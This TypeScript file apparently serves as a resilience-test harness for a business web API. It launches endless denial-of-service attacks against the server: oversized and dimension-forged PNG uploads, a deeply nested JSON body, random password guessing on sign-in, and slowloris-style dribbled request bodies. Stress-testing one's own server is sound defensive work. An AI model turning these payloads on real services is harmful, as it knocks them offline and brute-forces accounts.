// Attackers, in a process of their own so that they delay the honest client through the server only. The command line
// has the server's address, the businesses' tokens with commas between them, and the kinds of attack: all, or one.
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import sharp from 'sharp'

const [address = '', tokenList = '', wanted = 'all'] = process.argv.slice(2)
const url = new URL(address)
const tokens = tokenList.split(',')

/** The largest picture that is decoded, in a few kilobytes. */
const picture = await sharp({ create: { width: 5000, height: 5000, channels: 3, background: '#417d65' } })
  .png()
  .toBuffer()
/** The same, said to be a hundred times larger. */
const misdeclaredPicture = Buffer.from(picture)
misdeclaredPicture.writeUInt32BE(50_000, 16)
misdeclaredPicture.writeUInt32BE(50_000, 20)
const deepJson = `{"data":${'['.repeat(250_000)}`

/** One attack of each kind, by the index of the attacker. Each takes as long as the server lets it. */
const attacks: Record<string, (index: number) => Promise<unknown>> = {
  pictures: (index) => {
    const form = new FormData()
    form.append(
      'logo',
      new File([new Uint8Array(index % 3 === 0 ? misdeclaredPicture : picture)], 'logo.png', { type: 'image/png' }),
    )
    const authorization = `Bearer ${tokens[index % tokens.length]}`
    return fetch(new URL('/api/business/upload-business-images', url), {
      method: 'POST',
      headers: { authorization },
      body: form,
    })
  },
  'deep json': () => post('/api/business/signup-using-credentials', deepJson),
  passwords: (index) =>
    post(
      '/api/business/signup-using-credentials',
      JSON.stringify({ data: { action: 'signin', username: `shop${index}`, password: `guess ${Math.random()}` } }),
    ),
  'slow bodies': () =>
    new Promise<void>((resolve) => {
      const socket = connect(Number(url.port), url.hostname)
      socket.on('error', () => {})
      socket.on('close', () => resolve())
      socket.write(`POST /api/business/signup-using-credentials HTTP/1.1\r\nhost: ${url.host}\r\n`)
      socket.write('content-type: application/json\r\ncontent-length: 100000\r\n\r\n')
      const drip = setInterval(() => socket.write('{'), 1000)
      socket.on('close', () => clearInterval(drip))
    }),
}

function post(path: string, body: string): Promise<unknown> {
  return fetch(new URL(path, url), { method: 'POST', headers: { 'content-type': 'application/json' }, body })
}

const kinds = Object.entries(attacks).filter(([kind]) => wanted === 'all' || kind === wanted)
const attackers = wanted === 'all' ? 50 : 15

async function attackForEver(index: number): Promise<never> {
  const attack = kinds[index % kinds.length]?.[1]
  for (;;) {
    const startMs = performance.now()
    await attack?.(index).then(consume, () => {})
    // A refusal costs the attacker nothing; ten a second each would still be one machine.
    await wait(Math.max(0, 100 - (performance.now() - startMs)))
  }
}

async function consume(answer: unknown): Promise<void> {
  if (answer instanceof Response) await answer.arrayBuffer()
}

process.send?.('ready')
await Promise.all(Array.from({ length: attackers }, (_, index) => attackForEver(index)))
